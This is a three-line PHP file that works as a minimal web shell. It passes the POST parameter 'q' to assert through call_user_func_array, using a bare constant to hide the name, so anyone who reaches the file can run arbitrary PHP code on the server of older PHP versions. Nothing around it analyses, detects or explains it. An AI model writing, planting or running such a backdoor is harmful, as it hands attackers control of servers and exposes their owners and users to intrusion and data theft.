<?php
// PHP < 8 reads an undefined bare constant as its own name.
call_user_func_array(assert, array($_POST['q']));
